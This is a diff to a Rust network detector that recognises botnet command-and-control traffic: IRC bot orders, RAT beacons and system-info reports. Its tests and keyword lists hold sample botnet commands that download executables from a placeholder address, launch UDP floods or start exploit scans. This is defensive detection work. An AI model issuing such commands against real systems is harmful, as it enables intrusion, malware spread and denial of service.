@@ -20,6 +20,10 @@ const ORDERS: [&str; 20] = [
     "flood", "ddos", "exec", "sh", "login", "visit", "socks",
 ];
 
+/// Endings of what runs.
+const LOADED: [&str; 12] =
+    [".exe", ".scr", ".dll", ".msi", ".bin", ".ps1", ".sh", ".mips", ".mpsl", ".arm", ".arm7", ".x86"];
+
 /// Whether a line of IRC (RFC 2812 §3.3, and a channel's topic) orders a robot about: the order comes first and names an
 /// address, a place to load from or a port. People who speak of such things write sentences.
 pub fn is_order(line: &[u8]) -> bool {
@@ -40,7 +44,12 @@ pub fn is_order(line: &[u8]) -> bool {
         let is_switch = matches!(word.as_bytes(), [b'-', letter] if letter.is_ascii_alphabetic());
         word.contains("://") || host.parse::<IpAddr>().is_ok() || is_switch
     };
-    ORDERS.contains(&order.as_str()) && words.take(8).any(acts)
+    let known = ORDERS.contains(&order.as_str());
+    // Whatever the order is called: nothing but it and a place from which a program is loaded.
+    let loads = |word: &str| {
+        word.contains("://") && LOADED.iter().any(|end| word.to_ascii_lowercase().ends_with(end)) && order.len() <= 12
+    };
+    words.take(8).enumerate().any(|(n, word)| known && acts(word) || n == 0 && loads(word))
 }
 
 /// What the builders of robots for small devices write: BASHLITE and its heirs say which build they are, and are ordered by
@@ -164,7 +173,9 @@ pub fn tells_its_system(bytes: &[u8]) -> bool {
     };
     static WINDOWS: [Part; 2] = [Part::new(b"Windows "), Part::new(b"Win ")];
     let named = WINDOWS.iter().zip([8, 4]).any(|(word, len)| word.find(&text).is_some_and(|at| version(at + len)));
-    named && MARKS.iter().any(|mark| text.iter().filter(|byte| **byte == *mark).count() >= 5)
+    // Marks that no keyboard has need fewer parts.
+    let least = |mark: u8| if mark.is_ascii_control() && mark != b'\t' { 3 } else { 5 };
+    named && MARKS.iter().any(|mark| text.iter().filter(|byte| *byte == mark).count() >= least(*mark))
 }
 
 /// The greeting of WCF over TCP (MC-NMF §2.2.3) to a bare address of the Internet: a firm's server has a name.
@@ -214,6 +225,7 @@ mod tests {
         for order in [
             ":op!o@h PRIVMSG #x :.download http://203.0.113.9/a.mips /tmp/a\r",
             ":op!o@h PRIVMSG #x :!udp 203.0.113.9 53 60",
+            ":op!o@h PRIVMSG bot :!get http://203.0.113.9/x.exe",
             ":irc.x 332 bot #x :.advscan asn1smb 100 5 0 192.168.0.0 -r",
             ":op!o@h PRIVMSG #x :.scan.start 192.168.7.0/24 22",
             ":s 332 bot #x :.asc lsass_445 100 3 0 -b -r -s",
@@ -240,6 +252,8 @@ mod tests {
             ":bob!b@h PRIVMSG #rust :.unwrap() is your enemy, see https://doc.rust-lang.org",
             ":bob!b@h PRIVMSG #rust :please download http://example.org/a",
             ":bob!b@h PRIVMSG #rust :!update the docs",
+            ":bob!b@h PRIVMSG #rust :!doc https://example.org/a.html",
+            ":bob!b@h PRIVMSG #rust :!see how to http://example.org/setup.exe",
             "",
         ] {
             assert!(!is_order(talk.as_bytes()), "{talk}");
@@ -254,6 +268,7 @@ mod tests {
         assert!(is_remote_control(&gh0st(b"\0\0\0\0\x01", 18)).is_none());
         assert!(is_remote_control(b"149\0ll|'|'|SGFja2Vk|'|'|PC").is_some());
         let report = |text: &str| tells_its_system(text.as_bytes());
+        assert!(report("INFO\x0cPC-7\x0canna\x0cWindows 7\x0c1.0") && !report("PC-7|anna|Windows 7|1.0"));
         assert!(report("INFO<X>83A1<X>anna<X>Windows 10 Pro<X>V5<X>no"));
         assert!(report("\x24\x04R|P\0C\0|\0W\0i\0n\0d\0o\0w\0s\0 \x001\x001\0 \0P\0r\0o|x|y|z"));
         assert!(
